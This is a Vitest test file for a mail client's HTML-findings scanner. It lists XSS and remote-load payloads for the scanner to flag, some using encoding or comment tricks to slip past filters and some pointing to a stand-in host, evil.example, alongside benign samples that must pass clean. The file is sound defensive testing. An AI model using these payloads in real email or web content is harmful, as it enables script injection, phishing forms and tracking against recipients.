import { describe, expect, test } from 'vitest'
import { htmlFindings } from '../../../main/message/html-findings.ts'

describe('E19: what mail HTML should not contain', () => {
  test.each([
    ['<script>x</script>', 'active', 'script'],
    ['<SCRIPT SRC=//evil.example/x.js>', 'active', 'script'],
    ['<img src="cid:a" onerror="x()">', 'active', 'onerror'],
    ['<svg/onload=x()>', 'active', 'onload'],
    ['<form action="https://evil.example/"><input name="p"></form>', 'active', 'form'],
    ['<iframe src="https://evil.example/"></iframe>', 'active', 'iframe'],
    ['<object data="x"></object>', 'active', 'object'],
    ['<embed src="x">', 'active', 'embed'],
    ['<base href="https://evil.example/">', 'active', 'base'],
    ['<meta http-equiv="Refresh" content="0;url=https://evil.example/">', 'active', 'meta refresh'],
    ['<a href="java\nscript:alert(1)">x</a>', 'active', 'href=javascript:'],
    ['<a href="&#106;avascript:alert(1)">x</a>', 'active', 'href=javascript:'],
    ['<p style="width:expression(alert(1))">', 'active', 'style'],
    ['<!--[if mso]><script>x</script><![endif]-->', 'active', 'script'],
    ['<img src="https://track.example/1.gif">', 'remote', 'img'],
    ['<img src="\\\\evil\\share\\x.png">', 'remote', 'img'],
    ['<img srcset="https://a.jp/1.png 2x">', 'remote', 'img'],
    ['<td background="http://a.jp/x.png">', 'remote', 'td'],
    ['<link rel="stylesheet" href="https://a.jp/x.css">', 'remote', 'link'],
    ['<style>@import "https://a.jp/x.css"</style>', 'remote', '@import'],
    ['<style>@im/**/port "x"</style>', 'remote', '@import'],
    ['<p style="background:url(https://a.jp/x.png)">', 'remote', 'url()'],
    ['<p style="background:u\\72l(https://a.jp/x.png)">', 'remote', 'url()'],
    ['<video poster="https://a.jp/x.png">', 'remote', 'video'],
  ])('%s', (html, kind, what) => {
    expect(htmlFindings(html)).toContainEqual(expect.objectContaining({ kind, what }))
  })

  test.each([
    '<p style="color:#333">本文</p>',
    '<img src="cid:logo" alt="ロゴ">',
    '<img src="data:image/png;base64,AAAA">',
    '<a href="https://example.jp/">開く</a>',
    '<style>p { color: red }</style><title>onload=x</title>',
    '<!-- <script>x</script> -->',
    // By the standard this is one element with a strange name.
    '<scr<script>ipt>',
    '2 < 3 && <b>4</b> > 1',
    '<table width="600"><tr><td bgcolor="#fff">a</td></tr></table>',
  ])('%s is fine', (html) => {
    expect(htmlFindings(html)).toEqual([])
  })
})
